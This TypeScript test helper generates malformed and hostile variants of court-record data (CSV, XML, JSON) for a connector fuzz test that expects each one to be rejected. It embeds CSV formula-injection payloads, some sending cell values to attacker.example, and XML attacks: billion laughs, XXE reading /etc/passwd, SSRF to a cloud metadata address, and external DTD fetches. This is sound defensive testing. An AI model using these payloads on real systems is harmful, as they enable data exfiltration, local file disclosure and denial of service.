import { seededRandom } from '../../src/common/random';
import { type ConnectorDefinition, type SourceRecord } from '../../connectors/contract/connector';

export type HostileKind =
  | 'TRUNCATED'
  | 'GARBAGE'
  | 'WRONG_ENCODING'
  | 'HUGE_FIELD'
  | 'WRONG_TYPE'
  | 'DUPLICATE_KEY'
  | 'XML_ENTITY_TRICK'
  | 'CSV_INJECTION'
  | 'CONTROL_CHARACTERS';

export interface HostileRecord {
  kind: HostileKind;
  record: SourceRecord;
}

const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+HYPERLINK("http://attacker.example/?leak="&A1)',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",A2),"//a")',
];

const XML_TRICKS = [
  // Billion laughs
  `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><CourtResults xmlns="urn:shieldline:criminal-court-results:1">&lol3;</CourtResults>`,
  // XXE: local file
  `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><CourtResults xmlns="urn:shieldline:criminal-court-results:1">&xxe;</CourtResults>`,
  // XXE: SSRF
  `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><CourtResults>&xxe;</CourtResults>`,
  // External DTD
  `<?xml version="1.0"?><!DOCTYPE CourtResults SYSTEM "http://attacker.example/evil.dtd"><CourtResults/>`,
  // Parameter entities
  `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><CourtResults/>`,
  // Lower-case doctype
  `<?xml version="1.0"?><!doctype r [<!entity a "b">]><CourtResults/>`,
  // Quadratic blow-up
  `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "${'x'.repeat(5000)}">]><CourtResults>${'&a;'.repeat(200)}</CourtResults>`,
];

function xmlAttribute(value: string): string {
  return value
    .replaceAll('&', '&amp;')
    .replaceAll('"', '&quot;')
    .replaceAll('<', '&lt;')
    .replaceAll('\t', '&#9;');
}

function utf8(bytes: Buffer): string {
  return bytes.toString('utf8');
}

function pick<T>(rand: () => number, items: readonly T[]): T {
  return items[Math.floor(rand() * items.length)]!;
}

/** Replaces one JSON string leaf (chosen at random) using `replace`. */
function mutateJsonLeaf(
  text: string,
  rand: () => number,
  replace: (value: string) => unknown,
): string | null {
  const value = JSON.parse(text) as unknown;
  const leaves: { parent: Record<string, unknown> | unknown[]; key: string | number }[] = [];
  const walk = (node: unknown) => {
    if (Array.isArray(node))
      node.forEach((v, i) => (typeof v === 'string' ? leaves.push({ parent: node, key: i }) : walk(v)));
    else if (typeof node === 'object' && node !== null)
      for (const [k, v] of Object.entries(node)) {
        if (typeof v === 'string') leaves.push({ parent: node as Record<string, unknown>, key: k });
        else walk(v);
      }
  };
  walk(value);
  if (leaves.length === 0) return null;
  const leaf = pick(rand, leaves);
  const parent = leaf.parent as Record<string | number, unknown>;
  parent[leaf.key] = replace(parent[leaf.key] as string);
  return JSON.stringify(value);
}

/** Replaces one non-empty CSV cell of the data row with `cell` (quoted as CSV requires). */
function mutateCsvCell(text: string, rand: () => number, cell: string): string {
  const newline = text.indexOf('\n');
  const header = text.slice(0, newline);
  const row = text.slice(newline + 1);
  const cells: string[] = [];
  // The fixture rows are simple enough to re-split with the quoted-field regex.
  for (const match of row.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)) {
    cells.push(match[1]!);
    if (match[2] === '') break;
  }
  const filled = cells.map((c, i) => [c, i] as const).filter(([c]) => c !== '');
  const [, index] = pick(rand, filled);
  cells[index] = `"${cell.replaceAll('"', '""')}"`;
  return `${header}\n${cells.join(',')}`;
}

/**
 * Hostile variants of a connector's good records. Every variant is invalid by construction (the kind
 * says how), so the fuzz test can demand that each one is rejected with a reason code.
 */
export function hostileRecords(
  connector: ConnectorDefinition,
  good: readonly SourceRecord[],
  count: number,
  seed: number,
): HostileRecord[] {
  const rand = seededRandom(seed);
  const out: HostileRecord[] = [];
  const kinds: HostileKind[] = [
    'TRUNCATED',
    'GARBAGE',
    'WRONG_ENCODING',
    'WRONG_TYPE',
    'DUPLICATE_KEY',
    'XML_ENTITY_TRICK',
    'CSV_INJECTION',
    'CONTROL_CHARACTERS',
  ];
  for (let i = 0; i < count; i++) {
    const base = pick(rand, good);
    const text = utf8(base.bytes);
    const isCsv = base.mediaType === 'text/csv';
    const isXml = base.mediaType === 'application/xml';
    // One in five hundred is a huge field: enough to cover the path without flooding the log.
    const kind: HostileKind = i % 500 === 0 ? 'HUGE_FIELD' : pick(rand, kinds);
    let bytes: Buffer;
    switch (kind) {
      case 'TRUNCATED': {
        const body = text.trimEnd();
        // Cut inside the content (never only trailing whitespace), leaving at least one byte.
        const cut = isCsv
          ? text.indexOf('\n') + 1 + Math.floor(rand() * (body.length - text.indexOf('\n') - 2))
          : 1 + Math.floor(rand() * (body.length - 2));
        bytes = Buffer.from(body.slice(0, cut));
        break;
      }
      case 'GARBAGE': {
        bytes = Buffer.alloc(Math.floor(rand() * 2048));
        for (let j = 0; j < bytes.length; j++) bytes[j] = Math.floor(rand() * 256);
        break;
      }
      case 'WRONG_ENCODING': {
        const variant = Math.floor(rand() * 3);
        if (variant === 0) bytes = Buffer.from(text, 'utf16le');
        else if (variant === 1) {
          // Latin-1 bytes where UTF-8 was promised: a lone 0xE9 ("é") inside the text.
          const at = text.indexOf(isCsv ? '\n' : isXml ? '<Name' : '"') + 1;
          bytes = Buffer.concat([
            Buffer.from(text.slice(0, at)),
            Buffer.from([0xe9]),
            Buffer.from(text.slice(at)),
          ]);
        } else {
          // An overlong / invalid UTF-8 sequence.
          bytes = Buffer.concat([
            Buffer.from(text.slice(0, 10)),
            Buffer.from([0xc0, 0xaf, 0xff]),
            Buffer.from(text.slice(10)),
          ]);
        }
        break;
      }
      case 'HUGE_FIELD': {
        const huge = 'A'.repeat(300 * 1024);
        bytes = Buffer.from(
          isCsv
            ? mutateCsvCell(text, rand, huge)
            : isXml
              ? text.replace('<Name ', `<Name note="${huge}" `)
              : (mutateJsonLeaf(text, rand, () => huge) ?? huge),
        );
        break;
      }
      case 'WRONG_TYPE': {
        if (isCsv)
          bytes = Buffer.from(
            mutateCsvCell(text, rand, pick(rand, ['ARRESTED?', '12', 'true', '[]', '{}'])).replace(
              /\n[^,]*/,
              '\nNOT_A_TYPE',
            ),
          );
        else if (isXml)
          bytes = Buffer.from(
            text.replace(/(start|sentAt|committedOn|dateOfBirth|endsAt)="[^"]*"/, '$1="yesterday"'),
          );
        else
          bytes = Buffer.from(
            mutateJsonLeaf(text, rand, () => pick(rand, [12345, true, [], { nested: 1 }])) ?? '[]',
          );
        break;
      }
      case 'DUPLICATE_KEY': {
        if (isCsv) {
          const newline = text.indexOf('\n');
          const first = text.slice(0, text.indexOf(','));
          bytes = Buffer.from(`${text.slice(0, newline)},${first}${text.slice(newline)},X`);
        } else if (isXml) bytes = Buffer.from(text.replace('<Court ', '<Court code="DUP" '));
        else {
          const firstKey = /"([^"]+)"\s*:/.exec(text)![1]!;
          bytes = Buffer.from(text.replace('{', `{"${firstKey}": "shadowed", `));
        }
        break;
      }
      case 'XML_ENTITY_TRICK':
        bytes = Buffer.from(pick(rand, XML_TRICKS));
        break;
      case 'CSV_INJECTION': {
        const formula = pick(rand, FORMULAS);
        bytes = Buffer.from(
          isCsv
            ? mutateCsvCell(text, rand, formula)
            : isXml
              ? text.replace(/<Name given="[^"]*"/, `<Name given="${xmlAttribute(formula)}"`)
              : (mutateJsonLeaf(text, rand, () => formula) ?? formula),
        );
        break;
      }
      case 'CONTROL_CHARACTERS': {
        const control = pick(rand, ['\u0000', '\u0007', '\u001b[31m', '\u007f']);
        bytes = Buffer.from(
          isCsv
            ? mutateCsvCell(text, rand, `Jane${control}Example`)
            : isXml
              ? text.replace(/<Name given="/, `<Name given="${xmlAttribute(control)}`)
              : (mutateJsonLeaf(text, rand, (v) => `${v}${control}`) ?? control),
        );
        break;
      }
    }
    out.push({
      kind,
      record: { position: i + 1, locator: `hostile ${i + 1} (${kind})`, bytes, mediaType: base.mediaType },
    });
  }
  void connector;
  return out;
}
